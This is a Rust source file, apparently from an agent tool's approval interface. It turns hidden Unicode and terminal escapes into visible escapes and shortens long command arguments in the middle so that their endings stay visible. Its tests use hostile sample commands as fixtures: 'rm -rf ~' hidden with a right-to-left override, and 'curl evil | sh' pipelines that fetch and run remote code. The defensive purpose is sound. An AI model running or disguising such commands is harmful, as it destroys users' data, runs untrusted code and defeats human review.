//! Text a person decides on, made safe to show. Arguments and everything a server supplies
//! (names, descriptions, messages) may carry characters that change what is seen without being
//! seen themselves: bidi overrides that reorder a command, zero-width characters, C0/C1
//! controls, and terminal escape sequences that rewrite the screen. Every channel where a
//! person decides (CLI, notifications, the UI's own copy in ui/src/lib/visible.ts) shows them
//! as visible `\u{…}` escapes instead.

use serde_json::Value;
use std::borrow::Cow;
use std::fmt::Write;

/// The most characters of arguments a notification shows; more and it offers no approval.
pub const NOTIFICATION_ARGS_MAX: usize = 120;

/// A character that must never reach a person's screen as itself.
pub fn is_hidden(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{ad}' | '\u{61c}' | '\u{180e}'
        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}'
        | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
    )
}

/// `text` with every hidden character as a visible `\u{XXXX}` escape; newlines and tabs kept.
pub fn visible(text: &str) -> Cow<'_, str> {
    escape(text, false)
}

/// [`visible`] for one line: newlines and tabs escaped too.
pub fn visible_line(text: &str) -> Cow<'_, str> {
    escape(text, true)
}

fn escape(text: &str, one_line: bool) -> Cow<'_, str> {
    let hidden = |c: char| is_hidden(c) || (one_line && matches!(c, '\n' | '\t'));
    if !text.chars().any(hidden) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' if one_line => out.push_str("\\n"),
            '\t' if one_line => out.push_str("\\t"),
            c if is_hidden(c) => {
                let _ = write!(out, "\\u{{{:04X}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The arguments on one visible line: `path: "a.txt", content: "hi"`.
pub fn args_line(args: &Value) -> String {
    let text = match args.as_object() {
        Some(map) => map
            .iter()
            .map(|(k, v)| format!("{k}: {v}"))
            .collect::<Vec<_>>()
            .join(", "),
        None => args.to_string(),
    };
    visible_line(&text).into_owned()
}

/// [`args_line`] cut to `max` characters in the middle ([`cut_middle`]); the flag says whether
/// anything was cut.
pub fn args_summary(args: &Value, max: usize) -> (String, bool) {
    cut_middle(&args_line(args), max)
}

/// `text` in at most `max` characters, cut in the middle if at all (`git status && cu…| sh`),
/// never at the end: the end of a command is where a dangerous tail (`| sh`) hides. Counts
/// characters, so none is split; the flag says whether anything was cut. The UI cuts the same
/// way (`cutMiddle` in ui/src/lib/callView.ts).
pub fn cut_middle(text: &str, max: usize) -> (String, bool) {
    let count = text.chars().count();
    if count <= max {
        return (text.to_string(), false);
    }
    let keep = max.saturating_sub(1).max(2);
    let tail = keep / 2;
    let head: String = text.chars().take(keep - tail).collect();
    let end: String = text.chars().skip(count - tail).collect();
    (format!("{head}…{end}"), true)
}

/// Whether a notification shows these arguments whole.
pub fn fits_notification(args: &Value) -> bool {
    !args_summary(args, NOTIFICATION_ARGS_MAX).1
}

/// The arguments that say what a call does, most telling first: a command, then a path, a URL…
const KEY_ARGUMENTS: &[&str] = &[
    "command",
    "cmd",
    "file_path",
    "path",
    "notebook_path",
    "url",
    "query",
    "pattern",
];

/// The one argument that says what a call does (`git status`, `notes/a.txt`), made visible on
/// one line; the whole arguments line when none of the usual ones is there. Never cut: cut it
/// with [`cut_middle`] where room is short.
pub fn key_argument(args: &Value) -> String {
    let key = args
        .as_object()
        .and_then(|map| KEY_ARGUMENTS.iter().find_map(|key| map.get(*key)));
    match key {
        Some(Value::String(text)) => visible_line(text).into_owned(),
        Some(other) => visible_line(&other.to_string()).into_owned(),
        None => args_line(args),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use serde_json::json;

    #[test]
    fn hidden_characters_become_visible_escapes() {
        // A right-to-left override makes `rm -rf ~ #txt.cod` read as something harmless.
        assert_eq!(
            visible("rm -rf ~ \u{202e}cod.txt"),
            "rm -rf ~ \\u{202E}cod.txt"
        );
        assert_eq!(visible("\u{1b}[2Jclear"), "\\u{001B}[2Jclear");
        assert_eq!(visible("a\u{200b}b\u{feff}"), "a\\u{200B}b\\u{FEFF}");
        assert_eq!(visible("\u{2066}x\u{2069}"), "\\u{2066}x\\u{2069}");
        assert_eq!(visible("c1\u{9b}31m"), "c1\\u{009B}31m");
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in ["plain", "émoji 🚀 and ünïcode", "line\nbreak\ttab", "עברית"] {
            assert!(matches!(visible(text), Cow::Borrowed(t) if t == text));
        }
        assert_eq!(visible_line("a\nb\tc"), "a\\nb\\tc");
    }

    #[test]
    fn argument_lines_escape_keys_and_values_and_say_when_cut() {
        let args = json!({"cmd\u{202e}": "ls \u{202e}x"});
        let line = args_line(&args);
        assert!(!line.chars().any(is_hidden), "{line}");
        assert!(line.contains("\\u{202E}"));
        let long = json!({ "command": "x".repeat(500) });
        let (summary, cut) = args_summary(&long, NOTIFICATION_ARGS_MAX);
        assert!(cut && summary.contains('…'));
        assert_eq!(summary.chars().count(), NOTIFICATION_ARGS_MAX);
        assert!(!fits_notification(&long));
        assert!(fits_notification(&json!({"path": "a.txt"})));
    }

    #[test]
    fn the_key_argument_is_the_command_or_path_and_is_cut_in_the_middle() {
        assert_eq!(
            key_argument(&json!({"path": "a.txt", "content": "x"})),
            "a.txt"
        );
        assert_eq!(
            key_argument(&json!({"description": "d", "command": "ls\n-la"})),
            "ls\\n-la"
        );
        assert_eq!(key_argument(&json!({"n": 1})), "n: 1");
        let command = format!("git status && {} | sh", "curl https://x.example/".repeat(5));
        let (cut, _) = cut_middle(&command, 40);
        assert!(cut.chars().count() <= 40, "{cut}");
        assert!(
            cut.starts_with("git status && ") && cut.ends_with("| sh"),
            "{cut}"
        );
        assert!(cut.contains('…'), "{cut}");
    }

    #[test]
    fn long_text_is_cut_in_the_middle_so_a_dangerous_tail_stays() {
        let command = format!("git status {}&& curl evil | sh", " ".repeat(300));
        let (shown, cut) = cut_middle(&command, 60);
        assert!(cut);
        assert_eq!(shown.chars().count(), 60);
        assert!(shown.starts_with("git status"), "{shown}");
        assert!(shown.ends_with("&& curl evil | sh"), "{shown}");
        let (summary, cut) = args_summary(&json!({ "command": command }), 80);
        assert!(cut && summary.ends_with("&& curl evil | sh\""), "{summary}");
        assert_eq!(
            cut_middle("é".repeat(30).as_str(), 9).0,
            format!("{}…{}", "é".repeat(4), "é".repeat(4))
        );
        assert_eq!(cut_middle("short", 60), ("short".to_string(), false));
    }
}
